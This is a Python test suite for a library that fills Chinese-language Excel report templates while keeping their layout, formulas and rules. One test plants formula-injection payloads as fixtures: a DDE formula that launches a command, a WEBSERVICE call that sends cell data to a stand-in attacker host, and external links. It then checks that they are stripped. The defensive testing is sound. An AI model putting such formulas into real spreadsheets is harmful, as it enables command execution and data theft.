"""A receiver's template filled: values where expected, everything else as it was."""

import tempfile
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.formatting.rule import CellIsRule
from openpyxl.worksheet.datavalidation import DataValidation

from projects.sheets import ledger_sheet
from sheets.fill import Filling, fill_template
from sheets.template import read_template
from sheets.text import CellError
from tests.sheets.template_books import filled, plain, read, saved

COLUMNS = {"A": "", "B": "", "C": "", "D": ""}


def rows_of(count):
    return [
        [n, f"第{n}个项目", Decimal(n) + Decimal("0.5"), Decimal(n)] for n in range(1, count + 1)
    ]


def filling(first, rows, **more):
    return Filling("表 1", first, COLUMNS, rows, **more)


@given(
    body=st.integers(1, 6), above=st.integers(0, 4), total=st.booleans(), foot=st.booleans(),
    grouped=st.booleans(), count=st.integers(0, 15),
)  # fmt: skip
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_template_takes_any_number_of_rows(body, above, total, foot, grouped, count):
    with tempfile.TemporaryDirectory() as folder:
        book, ws, first = plain(body, above=above, total=total, foot=foot, grouped=grouped)
        merged = {str(area) for area in ws.merged_cells.ranges if area.max_row < first}
        path = saved(book, Path(folder) / "t.xlsx")
        found = read(path)
        assert (found["sheet"], found["first_row"], found["body_rows"]) == ("表 1", first, body)
        assert {c["letter"]: c["key"] for c in found["columns"]}["B"] == "name"
        sheet = filled(path, filling(first, rows_of(count)))["表 1"]
    height = max(body, count)
    got = [[sheet.cell(first + n, col).value for col in range(1, 5)] for n in range(count)]
    assert got == [[n, name, float(a), int(b)] for n, name, a, b in rows_of(count)]
    for row in range(first, first + height):
        assert sheet.cell(row, 5).value == f"=IF(C{row}=0,0,D{row}/C{row})"
        assert sheet.cell(row, 6).value is None  # the sample's remark is gone
        assert sheet.row_dimensions[row].height == 33
        assert sheet.cell(row, 6).fill.fgColor.rgb == "FFFFFF00"
    after = first + height
    now = {str(area) for area in sheet.merged_cells.ranges}
    assert merged <= now
    if total:
        assert sheet.cell(after, 1).value == "合计"
        assert sheet.cell(after, 3).value == f"=SUM(C{first}:C{after - 1})"
        assert f"A{after}:B{after}" in now
        after += 1
    if foot:
        assert sheet.cell(after, 1).value.startswith("单位负责人")
        assert sheet.row_dimensions[after].height == 40
        assert f"A{after}:F{after}" in now


def test_the_look_and_the_rules_of_the_template_stay(tmp_path):
    book, ws, first = plain(1)
    ws.column_dimensions["B"].width = 41
    ws.print_title_rows, ws.print_area = "1:3", "A1:F6"
    ws.page_setup.orientation, ws.page_setup.paperSize = "landscape", 8
    rule = DataValidation(type="list", formula1='"甲,乙"')
    rule.add(f"F{first}")
    ws.add_data_validation(rule)
    red = CellIsRule(operator="greaterThan", formula=[f"C${first + 1}"])
    ws.conditional_formatting.add(f"C{first}", red)
    other = book.create_sheet("汇总")
    other["A1"] = f"='表 1'!C{first + 1}"
    path = saved(book, tmp_path / "t.xlsx")

    out = filled(path, filling(first, rows_of(4), cells={"A2": "填报单位（盖章）：县中心"}))
    sheet = out["表 1"]
    assert sheet["A2"].value == "填报单位（盖章）：县中心"
    assert sheet.column_dimensions["B"].width == 41
    assert sheet["A1"].font.name == "黑体"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 8)
    assert (sheet.print_title_rows, sheet.print_area) == ("$1:$3", "'表 1'!$A$1:$F$9")
    assert [str(rule.sqref) for rule in sheet.data_validations.dataValidation] == ["F4:F7"]
    [formatting] = sheet.conditional_formatting
    assert (str(formatting.sqref), formatting.rules[0].formula) == ("C4:C7", ["C$8"])
    assert out["汇总"]["A1"].value == "='表 1'!C8"
    assert out.calculation.fullCalcOnLoad


def test_text_stays_text_and_dates_are_dates(tmp_path):
    book, _, first = plain(1)
    path = saved(book, tmp_path / "t.xlsx")
    rows = [
        [date(2023, 2, 3), text, None, None] for text in ("=1+1", "+1", "-1", "@SUM(A1)", "0012")
    ]
    sheet = filled(path, Filling("表 1", first, COLUMNS | {"A": "yyyy.m.d"}, rows))["表 1"]
    for place, (_, text, *_) in enumerate(rows):
        cell = sheet.cell(first + place, 2)
        assert (cell.value, cell.data_type) == (text, "s")
    day = sheet.cell(first, 1)
    assert (day.value.date(), day.number_format) == (date(2023, 2, 3), "yyyy.m.d")


def test_where_the_numbers_come_from_is_a_hidden_sheet(tmp_path):
    book, _, first = plain(1)
    path = saved(book, tmp_path / "t.xlsx")
    out = filled(path, filling(first, rows_of(1), origin=[("统计截止", date(2023, 2, 3))]))
    assert out.sheetnames == ["表 1", "出处"]
    assert out["出处"].sheet_state == "hidden"
    assert out["出处"]["B1"].value.date() == date(2023, 2, 3)


def test_cells_merged_over_sample_rows_are_the_samples(tmp_path):
    book, ws, first = plain(3)
    ws.merge_cells(start_row=first, end_row=first + 2, start_column=2, end_column=2)
    sheet = filled(saved(book, tmp_path / "t.xlsx"), filling(first, rows_of(3)))["表 1"]
    assert [sheet.cell(first + n, 2).value for n in range(3)] == [f"第{n}个项目" for n in (1, 2, 3)]


def test_a_column_under_a_merged_cell_is_refused_by_its_place(tmp_path):
    book, ws, first = plain(2)
    for row in (first, first + 1):
        ws.merge_cells(start_row=row, end_row=row, start_column=2, end_column=3)
    path = saved(book, tmp_path / "t.xlsx")
    with pytest.raises(CellError, match=f"第 {first} 行 C 列压在合并"):
        filled(path, filling(first, rows_of(2)))


def test_what_reaches_out_of_the_template_is_taken_out(tmp_path):
    book, ws, first = plain(1)
    ws["H4"] = "=[1]Sheet1!A1"
    ws["H1"] = "=cmd|'/C calc'!A0"
    ws["H2"] = '=WEBSERVICE("http://evil.example/"&C4)'
    ws["H3"] = "内网"
    ws["H3"].hyperlink = "file:////server/share/x.xlsx"
    sheet = filled(saved(book, tmp_path / "t.xlsx"), filling(first, rows_of(1)))["表 1"]
    texts = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [text for text in texts if "[1]" in text or "cmd|" in text or "WEBSERVICE" in text]
    assert sheet["H3"].hyperlink is None


def test_through_the_child_and_only_real_workbooks_without_macros(tmp_path):
    book, _, first = plain(2)
    path = saved(book, tmp_path / "t.xlsx")
    found = read_template(path, ledger_sheet(), name="t.xlsx")
    assert (found.header, found.first_row, found.body_rows) == (3, first, 2)
    body = fill_template(path.read_bytes(), filling(first, rows_of(5)))
    assert body[:2] == b"PK"

    macro = tmp_path / "m.xlsx"
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(macro, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info, old.read(info))
        new.writestr("xl/vbaProject.bin", b"\xd0\xcf")
    with pytest.raises(CellError, match="带有宏"):
        read_template(macro, ledger_sheet(), name="m.xlsx")
    text = tmp_path / "x.xlsx"
    text.write_bytes(b"a,b,c")
    with pytest.raises(CellError, match="文本文件"):
        read_template(text, ledger_sheet(), name="x.xlsx")


def test_a_table_without_our_header_asks_for_the_row(tmp_path):
    book, ws, first = plain(1)
    ws["B3"], ws["C3"], ws["D3"] = "工作内容", "数一", "数二"
    path = saved(book, tmp_path / "t.xlsx")
    assert read(path)["header"] is None
    found = read(path, at=["表 1", 3])
    assert (found["header"], found["first_row"]) == (3, first)
    assert [c["header"] for c in found["columns"]][:3] == ["序号", "工作内容", "数一"]
